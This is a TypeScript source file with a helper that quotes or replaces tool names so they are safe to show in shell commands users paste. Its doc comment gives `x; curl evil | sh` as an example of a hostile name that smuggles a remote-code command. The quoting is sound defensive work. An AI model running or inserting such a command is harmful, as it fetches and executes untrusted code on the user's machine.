const PLAIN = /^[\w@%+=:,./][\w@%+=:,./-]*$/;

/**
 * A word of a command that somebody is shown to paste. Names are other people's: `x; curl evil | sh` and `--all` can be names of
 * tools, so they stand in quotes, and what begins like an option or cannot be typed is left to the person.
 * @param instead what stands for it then: `TOOL`
 */
export function shellWord(text: string, instead: string): string {
  if (PLAIN.test(text)) return text;
  if (text.startsWith('-') || !isPrinted(text)) return instead;
  return `'${text.replaceAll("'", "'\\''")}'`;
}

/** Whether a terminal shows it as it is and a shell keeps it within quotes: no control, no invisible character, no other blank. */
function isPrinted(text: string): boolean {
  return /^[\p{L}\p{M}\p{N}\p{P}\p{S} ]{1,120}$/u.test(text);
}
